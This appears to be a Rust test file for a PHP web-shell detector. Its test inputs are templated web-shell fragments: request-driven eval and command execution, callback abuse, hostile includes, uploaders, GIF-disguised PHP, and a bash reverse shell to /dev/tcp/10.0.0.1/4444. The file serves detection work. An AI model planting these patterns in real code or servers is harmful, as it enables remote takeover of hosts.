//! The request reaches what executes it, in plain sight.

use super::{family, found, judge, silent};

#[test]
fn code_of_the_request_is_found() {
    family(
        "code execution",
        &[
            "@e(@p['a']);",
            "@@e(@r[0]);",
            "@a(@b(@p['z']));",
            "$x = trim(@c['x']); @e($x . ';');",
            "foreach (getallheaders() as $k => $v) if ($k == 'X') @e($v);",
            "@e($_SERVER['HTTP_USER_AGENT']);",
            "@e(file_get_contents('php://input'));",
            "$f = create_function('', @p['x']); $f();",
            "preg_replace('/a/e', @p['x'], 'a');",
            "preg_replace('/(.*)/e', '\\1', @p['x']);",
            "mb_ereg_replace('.*', @r['x'], '', 'e');",
            "<script language=\"php\">@e(@p[sb])</script>",
            "<% @e(@p['x']) %>",
            "define('A', @p['x']); @e(A);",
            "parse_str($_SERVER['QUERY_STRING']); @e($cmd);",
            "try { throw new Exception(@p['x']); } catch (Exception $e) { @e($e->getMessage()); }",
        ],
    );
}

#[test]
fn a_direct_sink_is_enough_by_itself() {
    for template in ["@e(@p['a']);", "@s(@g['c']);", "@g['f'](@g['x']);"] {
        assert!(judge(template).score >= 80, "{template}");
    }
}

#[test]
fn commands_of_the_request_are_found() {
    family(
        "command execution",
        &[
            "@s(@g[1]);",
            "<?=`@g[1]`?>",
            "$c = @g['c']; echo @x($c);",
            "passthru(@c['x'] . ' 2>&1');",
            "@s('cmd /c ' . @p['c']);",
            "exec('/bin/sh -c ' . @r['c'] . ' 2>&1', $out);",
            "$h = popen(@p['c'], 'r');",
            "$o = new COM('WScript.Shell'); $o->Exec(@g['c']);",
            "$x = json_decode(file_get_contents('php://input'), true); echo `{$x['c']}`;",
        ],
    );
    silent(&[
        "@s('ls -l');",
        "echo @x('git log --oneline ' . escapeshellarg(@g['branch']));",
        "if (in_array(@g['job'], $jobs)) { exec('/usr/bin/job ' . (int) @g['id']); }",
        "$n = (int) @g['n']; exec('head -n ' . $n . ' file.txt');",
    ]);
}

#[test]
fn functions_that_the_request_names_are_found() {
    found(&[
        "@g['a'](@g['b']);",
        "call_user_func(@g['f'], @g['x']);",
        "array_map(@g['f'], array(@g['x']));",
        "extract(@g); $a($b);",
        "foreach (@p as $k => $v) { $$k = $v; } $f($x);",
        "usort(...@g);",
        "$r = new ReflectionFunction(@g['f']); $r->invoke(@g['x']);",
        "list($f, $x) = array(@g['f'], @g['x']); $f($x);",
        "$z = new @g['a'](@g['b']);",
    ]);
    silent(&[
        "class R { function go($r) { $m = $r->action; return $this->$m($r); } }",
        "call_user_func(array($this, 'do_' . @g['action']), 1);",
        "$action = 'action_' . @g['a']; if (method_exists($this, $action)) $this->$action();",
        "do_action('init', @g['x']); apply_filters('x', @p['y']);",
    ]);
}

#[test]
fn callbacks_are_followed() {
    found(&[
        "array_map('@a', (array) @r['x']);",
        "array_filter(array(@p['a']), '@a');",
        "array_walk(@p, '@s');",
        "register_shutdown_function('@a', @p['x']);",
        "usort(@g, '@a');",
        "ob_start('@a'); echo @p['x'];",
        "filter_var(@r['p'], FILTER_CALLBACK, array('options' => '@a'));",
        "(new ReflectionFunction('@s'))->invokeArgs(array(@p['x']));",
        "$o = new ArrayObject(array('x', @r['p'])); $o->uasort('@a');",
        "iterator_apply(new ArrayIterator(array(1)), '@s', array(@g['x']));",
        "$x = function ($c) { @s($c); }; $x(@g['c']);",
        "(fn ($c) => @s($c))(@g['c']);",
    ]);
    silent(&[
        "array_map('trim', @p); usort($list, 'strcmp'); array_walk(@p, 'addslashes');",
        "$x = array_filter(@g, 'strlen'); echo implode(',', array_map('htmlspecialchars', $x));",
        "filter_var(@p['mail'], FILTER_VALIDATE_EMAIL);",
    ]);
}

#[test]
fn functions_classes_and_properties_are_followed() {
    found(&[
        "function a($x) { return $x; } @e(a(@p['x']));",
        "function run($c) { @s($c); } run(@g['c']);",
        "class A { public $n; function __destruct() { @e($this->n); } } $o = new A; $o->n = @p['x'];",
        "class A { function __construct($x) { $this->x = $x; } function r() { return @s($this->x); } } (new A(@g['x']))->r();",
        "class T { static function z($q) { @e($q); } } T::z(@p['q']);",
        "function f() { return func_get_args(); } @e(f(@p['x'])[0]);",
        "function g(&$o) { $o = @p['x']; } g($y); @e($y);",
        "$x = &@p['x']; @e($x);",
        "$a = array(@r['x'] => '3'); $b = array_keys($a)[0]; @e($b);",
    ]);
}

#[test]
fn included_input_is_found() {
    found(&[
        "include(@g['f']);",
        "include 'php://input';",
        "include 'data:text/plain;base64,' . @p['x'];",
        "@include $_FILES['a']['tmp_name'];",
        "$t = tempnam('/tmp', 'x'); file_put_contents($t, @p['x']); include $t;",
    ]);
    silent(&[
        "include 'pages/' . @g['p'] . '.php';",
        "$ok = array('a', 'b'); $p = @g['p']; if (!in_array($p, $ok)) $p = 'a'; include $p . '.php';",
        "$map = array('a' => 'a.php'); include $map[@g['p']];",
        "switch (@g['p']) { case 'x': $f = 'x.php'; break; default: $f = 'y.php'; } include $f;",
        "$compiled = $this->compile($name); include $compiled;",
    ]);
}

#[test]
fn writers_and_uploaders_are_found() {
    family(
        "file writer",
        &[
            "file_put_contents(@p['p'], @p['c']);",
            "$f = fopen(@p['n'], 'w'); fwrite($f, @p['d']);",
        ],
    );
    family(
        "uploader",
        &[
            "if (copy($_FILES['f']['tmp_name'], $_FILES['f']['name'])) echo 'ok';",
            "move_uploaded_file($_FILES['f']['tmp_name'], 'x.php');",
        ],
    );
    found(&[
        "file_put_contents('a.php', @b(@p['z']));",
        "file_put_contents('x.php', file_get_contents(@g['u']));",
    ]);
    silent(&[
        "$e = pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION); if (in_array($e, $allowed)) move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . $_FILES['f']['name']);",
        "move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . uniqid() . '.jpg');",
        "file_put_contents('cache/data.txt', @p['text']);",
        "file_put_contents('config.php', '<?php return ' . var_export($config, true) . ';');",
        "fwrite($log, date('c') . @g['x']);",
    ]);
}

#[test]
fn content_from_other_hosts_is_found() {
    found(&[
        "$d = curl_init('http://x/y.txt'); @e(curl_exec($d));",
        "@e('?>' . file_get_contents('https://x.example/y.txt'));",
        "$s = fsockopen($ip, $port); while (!feof($s)) fwrite($s, @x(fgets($s, 2048)));",
        "exec(\"/bin/bash -c 'ba\" . \"sh -i >& /dev/tcp/10.0.0.1/4444 0>&1'\");",
    ]);
    silent(&["echo file_get_contents('https://x.example/api'); $x = json_decode(curl_exec($c));"]);
}

#[test]
fn pictures_with_code_are_found() {
    found(&[
        "GIF89a;<?php if (isset(@g['x'])) { @s(@g['x']); } ?>",
        "GIF89a <?php phpinfo(@g['x']); ?>",
    ]);
    silent(&[
        "GIF89a<?\u{1}\u{2} no code at all (",
        "GIF89a and nothing more",
    ]);
}

#[test]
fn management_shells_are_found_without_a_single_flow() {
    let verdict = judge(
        "echo ini_get('safe_mode') . ini_get('disable_functions') . php_uname() . get_current_user(); \
         function run($c) { if (1) return @x($c); passthru($c); @s($c); popen($c, 'r'); } \
         $h = opendir('.'); readdir($h); unlink($x); rename($a, $b); chmod($a, 1); rmdir($d); \
         fileperms($x); filesize($x); if (@p['act'] == 'back connect') { bindport(); } \
         echo 'web shell, deface, /etc/passwd';",
    );
    assert!(verdict.score >= 60, "{verdict:#?}");
    assert_eq!(verdict.family, "management shell");
}
